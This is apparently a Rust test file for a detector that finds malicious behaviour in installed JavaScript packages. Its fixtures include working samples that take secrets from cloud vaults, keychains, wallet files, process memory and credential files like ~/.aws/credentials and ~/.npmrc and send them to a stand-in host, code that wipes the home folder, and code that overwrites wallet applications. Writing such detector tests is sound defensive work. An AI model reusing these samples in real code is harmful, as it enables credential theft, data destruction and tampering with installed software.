//! Secrets that somebody else keeps or finds: vaults, scanners, walks through a home folder; and files that are sent
//! or removed by their paths.

use weir_model::contents::{CapabilityKind, SinkKind, SourceKind};

use super::installed;

use SinkKind::{Http, Socket};
use SourceKind::{CredentialFile, CredentialTool, Environment, ProcessMemory};

const SENT: &[(&str, SourceKind, SinkKind, &str)] = &[
    ("a vault of a cloud", CredentialTool, Http,
        "const { SecretsManagerClient, GetSecretValueCommand } = require('@aws-sdk/client-secrets-manager');
        (async () => { const c = new SecretsManagerClient(); const v = await c.send(new GetSecretValueCommand({ SecretId: 'x' }));
            fetch('https://collector.invalid', { method: 'POST', body: v.SecretString }) })()"),
    ("another one's", CredentialTool, Http,
        "const { SecretManagerServiceClient } = require('@google-cloud/secret-manager');
        (async () => { const [v] = await new SecretManagerServiceClient().accessSecretVersion({ name: 'x' });
            fetch('https://collector.invalid', { method: 'POST', body: v.payload.data }) })()"),
    ("a third one's", CredentialTool, Http,
        "const { SecretClient } = require('@azure/keyvault-secrets');
        new SecretClient('u').getSecret('x').then(s => fetch('https://collector.invalid', { method: 'POST', body: s.value }))"),
    ("what a scanner finds", CredentialTool, Http,
        "const out = require('child_process').execFileSync('trufflehog', ['filesystem', require('os').homedir(), '--json']);
        fetch('https://collector.invalid', { method: 'POST', body: out })"),
    ("what a system's store has", CredentialTool, Http,
        "const out = require('child_process').execSync('docker-credential-osxkeychain get').toString();
        fetch('https://collector.invalid', { method: 'POST', body: out })"),
    ("all of the diagnostic report", Environment, Http,
        "fetch('https://collector.invalid', { method: 'POST', body: JSON.stringify(process.report.getReport()) })"),
    ("addresses of repositories", CredentialFile, Http,
        "fetch('https://collector.invalid', { method: 'POST', body: require('fs').readFileSync(process.cwd() + '/../../.git/config') })"),
    ("what a walk comes by", CredentialFile, Http,
        "const fs = require('fs'), path = require('path'), found = [];
        (function walk(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name);
            if (e.isDirectory()) walk(p); else if (/wallet/.test(e.name)) found.push(fs.readFileSync(p, 'utf8')) } })(require('os').homedir());
        fetch('https://collector.invalid', { method: 'POST', body: found.join() })"),
    ("another process's memory", ProcessMemory, Http,
        "const py = `m = open('/proc/%s/mem' % pid, 'rb'); print(m.read(4096))`;
        const out = require('child_process').execSync('sudo python3 -c ' + JSON.stringify(py)).toString();
        fetch('https://collector.invalid', { method: 'POST', body: out })"),
    ("a file by its path", CredentialFile, Socket,
        "const { Client } = require('ssh2'); const c = new Client();
        c.on('ready', () => c.sftp((e, s) => s.fastPut(process.env.HOME + '/.aws/credentials', '/in/x', () => 0))).connect({ host: 'collector.invalid' })"),
    ("the same to an older server", CredentialFile, Socket,
        "const f = new (require('basic-ftp').Client)();
        f.access({ host: 'collector.invalid' }).then(() => f.uploadFrom(require('os').homedir() + '/.npmrc', 'x'))"),
    ("the same by mail", CredentialFile, Socket,
        "require('nodemailer').createTransport({ host: 'collector.invalid' }).sendMail({ to: 'a@collector.invalid', attachments: [{ path: require('os').homedir() + '/.npmrc' }] })"),
];

const NOT_SENT: &[&str] = &[
    // How a client logs in with what a vault keeps for it.
    "const { SecretClient } = require('@azure/keyvault-secrets');
    new SecretClient('u').getSecret('x').then(s => fetch('https://api.example', { headers: { authorization: s.value } }))",
    "const { execSync } = require('child_process'); execSync('trufflehog filesystem .', { stdio: 'inherit' }); fetch('https://api.example')",
    "const r = process.report.getReport(); fetch('https://api.example/' + r.header.glibcVersionRuntime)",
    "const f = new (require('basic-ftp').Client)(); f.access({}).then(() => f.uploadFrom(__dirname + '/dist/x.js', 'x'))",
    "require('nodemailer').createTransport({}).sendMail({ attachments: [{ path: './report.pdf' }] })",
    // What a program keeps in the home folder under a name of its own.
    "const fs = require('fs'), path = require('path'), os = require('os'); fs.readdirSync('./lib');
    const text = fs.readFileSync(path.join(os.homedir(), name)); fetch('https://api.example', { method: 'POST', body: text })",
];

#[test]
fn secrets_that_others_keep_are_secrets() {
    for (what, source, sink, code) in SENT {
        let facts = installed(&[("index.js", code)]);
        let mut flows = facts.flows.iter();
        assert!(
            flows.any(|flow| flow.source == *source && flow.sink == *sink),
            "{what}: {:#?}",
            facts.flows
        );
    }
    for code in NOT_SENT {
        let facts = installed(&[("index.js", code)]);
        assert_eq!(facts.flows, [], "{code}");
    }
}

#[test]
fn a_home_folder_is_removed_however_it_is_done() {
    let removes = |code: &str| {
        let facts = installed(&[("index.js", code)]);
        let mut able = facts.capabilities.iter();
        able.any(|it| it.kind == CapabilityKind::RemovesHome)
    };
    for code in [
        "require('shelljs').rm('-rf', require('os').homedir())",
        "const fs = require('fs'), path = require('path');
        (function w(d) { for (const f of fs.readdirSync(d)) { const p = path.join(d, f); fs.statSync(p).isDirectory() ? w(p) : fs.unlinkSync(p) } })(require('os').homedir())",
    ] {
        assert!(removes(code), "{code}");
    }
    for code in [
        "require('shelljs').rm('-rf', 'dist')",
        "require('shelljs').rm('-rf', require('os').homedir() + '/.cache/tool')",
        "const fs = require('fs'), path = require('path');
        (function w(d) { for (const f of fs.readdirSync(d)) { const p = path.join(d, f); fs.statSync(p).isDirectory() ? w(p) : fs.unlinkSync(p) } })(path.join(require('os').homedir(), '.cache', 'tool'))",
    ] {
        assert!(!removes(code), "{code}");
    }
}

#[test]
fn the_code_of_an_installed_application_is_its_own() {
    let persists = |path: &str| {
        let code = format!("require('fs').copyFileSync(__dirname + '/x.asar', {path})");
        let facts = installed(&[("index.js", &code)]);
        let mut able = facts.capabilities.iter();
        able.any(|it| it.kind == CapabilityKind::Persists)
    };
    assert!(persists(
        "process.env.LOCALAPPDATA + '/wallet/app/resources/app.asar'"
    ));
    assert!(persists(
        "'/Applications/Wallet.app/Contents/Resources/app.asar'"
    ));
    assert!(!persists(
        "'./dist/mac/App.app/Contents/Resources/app.asar'"
    ));
    assert!(!persists("process.argv[2] + '/resources/app.asar'"));
}
